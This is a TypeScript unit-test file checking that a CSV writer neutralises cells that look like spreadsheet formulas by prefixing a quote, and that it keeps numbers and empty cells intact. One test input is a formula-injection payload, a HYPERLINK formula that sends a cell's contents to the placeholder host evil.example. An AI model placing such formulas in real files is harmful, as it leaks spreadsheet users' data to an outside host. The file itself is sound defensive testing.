import { describe, expect, it } from 'vitest';
import { parseCsvRows, toCsv } from './csv.ts';

const cells = (csv: string) => parseCsvRows(csv).map((row) => row.cells);

describe('toCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['+1+1', "'+1+1"],
    ['-Project one', "'-Project one"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('writes a text cell starting like a formula (%j) with a leading quote', (text, written) => {
    expect(cells(toCsv(['title'], [[text]]))[1]).toEqual([written]);
  });

  it('leaves other text, numbers typed as numbers (negative ones too) and empty cells as they are', () => {
    const csv = toCsv(
      ['title', 'balance', 'rate', 'note'],
      [
        ['Law No. 2008-12, "financing"', -12.5, 0.25, null],
        ['a = b', -0, 1e21, undefined],
      ],
    );
    expect(cells(csv)).toEqual([
      ['title', 'balance', 'rate', 'note'],
      ['Law No. 2008-12, "financing"', '-12.5', '0.25', ''],
      ['a = b', '0', '1e+21', ''],
    ]);
  });

  it('treats a figure passed as text as text: "-12.5" is neutralised, so amounts must be passed as numbers', () => {
    expect(cells(toCsv(['amount'], [['-12.5']]))[1]).toEqual(["'-12.5"]);
  });

  it('neutralises header cells too', () => {
    expect(cells(toCsv(['=cmd'], []))[0]).toEqual(["'=cmd"]);
  });
});
